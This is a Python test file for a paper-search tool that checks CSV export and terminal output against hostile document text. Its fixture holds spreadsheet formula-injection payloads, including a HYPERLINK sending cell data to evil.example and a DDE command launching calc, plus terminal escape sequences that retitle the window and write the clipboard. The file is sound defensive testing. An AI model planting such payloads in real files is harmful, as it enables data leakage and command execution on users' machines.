"""Issue 20: hostile or unlucky input harms neither the user nor the index.

One section per item of the issue; each test asserts the outcome a user meets
(the cell text, the exit code and the single stderr line, the files left in the
index folder, a time bound), through the real command where a user would.
"""

from __future__ import annotations

import csv
import json
import os
import shutil
import subprocess
import time
from pathlib import Path

import pytest

from paperfinder.indexer import index_paths
from paperfinder.safe_text import cell, marked, plain, terminal

from .conftest import corpus_file
from .test_robustness import PF, lines_of, pf

ESC = "\x1b"

HOSTILE_PAPER = f"""# =HYPERLINK("http://evil.example/?x="&A1,"Click for the budget")

Date: 12 March 2021

## +cmd|' /C calc'!A0

-2+3 is what the quokka budget line says.

@SUM(A1:A9) quokka totals are listed below.

The quokka budget sheet is at S:\\Finance\\Budget\\x.xlsx and the [bold]quokka[/bold] team keeps it.

Quokka title{ESC}]0;pwned{chr(7)} and clipboard{ESC}]52;c;ZWNobyBoaQ=={chr(7)} and {ESC}[8mhidden quokka{ESC}[0m text.
"""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    """A folder with a hostile paper and the bundled Westminster paper, indexed."""
    tmp = tmp_path_factory.mktemp("hostile")
    (tmp / "papers").mkdir()
    (tmp / "papers" / "hostile.md").write_text(HOSTILE_PAPER, encoding="utf-8")
    (tmp / "papers" / "minus.txt").write_text("-2+3 is what the quokka sum says.\n\nMore quokka text.\n")
    (tmp / "papers" / "at.txt").write_text("@SUM(A1:A9) quokka totals.\n\nMore quokka text.\n")
    shutil.copy(corpus_file("000"), tmp / "papers" / "westminster.txt")
    report = index_paths([tmp / "papers"], tmp / "index")
    assert report.added == 4 and not report.skipped
    return tmp


# ---- 1. CSV cells that a spreadsheet would run ------------------------------------------

@pytest.mark.parametrize("value, expected", [
    ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\tx", "'\tx"),
    ("\rx", "'\rx"),
    ("a = b", "a = b"),
    ("", ""),
    (None, ""),
    (12, "12"),
])
def test_spreadsheet_cell_prefixes_formula_starts(value, expected):
    assert cell(value) == expected


def test_csv_export_keeps_no_formula_cell(hostile):
    p = pf("export", "quokka", "--format", "csv", "--output", "out.csv", "--index", "index", cwd=hostile)
    assert p.returncode == 0, p.stderr
    with open(hostile / "out.csv", encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert rows
    cells = [v for row in rows for v in row.values()]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    titles = {r["title"] for r in rows}
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"Click for the budget")' in titles
    texts = [r["text"] for r in rows]
    assert any(t.startswith("'-2+3 is what the quokka sum") for t in texts), texts
    assert any(t.startswith("'@SUM(A1:A9) quokka totals") for t in texts), texts
    assert any(r["section"].startswith("'+cmd|") for r in rows)


# ---- 2 and 3. paper text on the terminal ------------------------------------------------

def test_terminal_text_prints_as_written_whatever_the_backslashes_and_brackets():
    from rich.console import Console

    for text in ["S:\\Finance\\Budget\\", "a\\\\\\", "[bold]x[/bold]", "\\[bold]", "x [", "[/]", "\\"]:
        console = Console(width=200, record=True, highlight=False)
        console.print(f"[dim]{terminal(text)}[/dim]")
        assert console.export_text().rstrip("\n") == text
    console = Console(width=200, record=True, highlight=False)
    console.print(marked("S:\\Finance\\**Budget**\\x \\**budget** [b]**[i]**"))
    assert console.export_text().rstrip("\n") == "S:\\Finance\\Budget\\x \\budget [b][i]"


def test_terminal_text_has_no_escape_sequences_or_control_characters():
    s = plain(f"a{ESC}]0;pwned\x07b{ESC}]52;c;ZWNobw==\x07c{ESC}[8md{ESC}[0m\x9b31me\x07\x08\r\u202ef\tg\nh")
    assert s == "abcde" + "f\tg\nh"
    assert plain("caf\udce9.txt") == "caf\\xe9.txt"  # a file name that is not UTF-8


def test_search_with_backslash_before_a_matched_word_prints_it(hostile):
    p = pf("search", "budget", "--index", "index", "-n", "20", cwd=hostile)
    assert p.returncode == 0, p.stderr
    assert "S:\\Finance\\Budget\\x.xlsx" in p.stdout
    assert "[bold]quokka[/bold]" in p.stdout  # brackets in a paper are text, not markup


def test_corpus_search_for_underscore_and_prints(corpus_index):
    p = pf("search", "_and", "--index", corpus_index)
    assert p.returncode == 0, p.stderr


@pytest.mark.parametrize("cmd", [["search", "quokka", "-n", "20"], ["show", None], ["ask", "What is the quokka budget?"],
                                 ["decisions", "quokka"], ["timeline", "quokka"], ["facets", "doc_type"]])
def test_no_escape_sequence_or_control_character_reaches_the_terminal(hostile, cmd):
    if cmd[1] is None:
        hits = json.loads(pf("search", "clipboard", "--format", "json", "--index", "index", cwd=hostile).stdout)["hits"]
        cmd = ["show", hits[0]["doc_id"]]
    p = pf(*cmd, "--index", "index", cwd=hostile)
    assert p.returncode == 0, p.stderr
    assert ESC not in p.stdout + p.stderr and "\x07" not in p.stdout
    if cmd[0] in ("search", "show"):
        assert "hidden quokka" in p.stdout  # the text itself is kept, only the sequence goes


# ---- 7. very long lines ---------------------------------------------------------------

_PROSE = "The council agreed the budget of £1.2m for the care service in 2020. Members noted the report and its risks. "


def _best_of(n: int, call) -> float:
    best = float("inf")
    for _ in range(n):
        t = time.perf_counter()
        call()
        best = min(best, time.perf_counter() - t)
    return best


def test_long_line_is_cut_in_linear_time():
    """A line 4x longer takes about 4x as long to cut into pieces (quadratic was 9-16x)."""
    from paperfinder.ingest import MAX_LINE_CHARS, lines_from_text

    small = _PROSE * (4 * 1024 * 1024 // len(_PROSE))
    big = small * 4
    t_small = _best_of(3, lambda: lines_from_text(small))
    t_big = _best_of(3, lambda: lines_from_text(big))
    assert t_big < 7 * t_small, f"4 MB {t_small:.2f}s, 16 MB {t_big:.2f}s: not linear"
    pieces = lines_from_text(big)
    assert all(len(p.text) <= MAX_LINE_CHARS for p in pieces)
    assert "".join(p.text.replace(" ", "") for p in pieces) == big.replace(" ", "")  # nothing lost or doubled


def test_20mb_line_is_read_and_sectioned_well_within_the_file_time_limit(tmp_path):
    from paperfinder.ingest import read_documents
    from paperfinder.sections import passages_of

    f = tmp_path / "oneline.txt"
    f.write_text("# Long paper\n\n" + _PROSE * (20 * 1024 * 1024 // len(_PROSE)) + "the final platypusword.\n", encoding="utf-8")
    t = time.perf_counter()
    passages = [p for doc in read_documents(f) for p in passages_of(doc)]
    seconds = time.perf_counter() - t
    assert seconds < 30, f"{seconds:.1f}s to read and section a 20 MB line"
    assert len(passages) > 5000 and all(p.line_start == p.line_end == 3 for p in passages[1:])
    assert "platypusword" in passages[-1].text
